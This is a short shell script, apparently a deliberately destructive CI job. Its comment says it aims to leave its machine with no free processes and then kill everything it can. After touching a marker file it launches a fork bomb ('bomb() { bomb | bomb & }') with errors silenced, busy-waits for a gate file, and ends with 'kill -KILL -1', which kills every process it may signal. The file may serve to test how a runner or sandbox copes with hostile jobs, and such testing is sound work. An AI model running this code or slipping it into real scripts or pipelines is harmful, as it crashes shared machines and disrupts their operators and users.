# A job that leaves its machine no processes, and then kills everything it may: the runner, and itself.
set +e
touch "$HOME/begun"
bomb() { bomb | bomb & }
bomb 2>/dev/null
# Without a process of its own, for there is none to be had.
until [ -e /run/gate ]; do :; done
kill -KILL -1
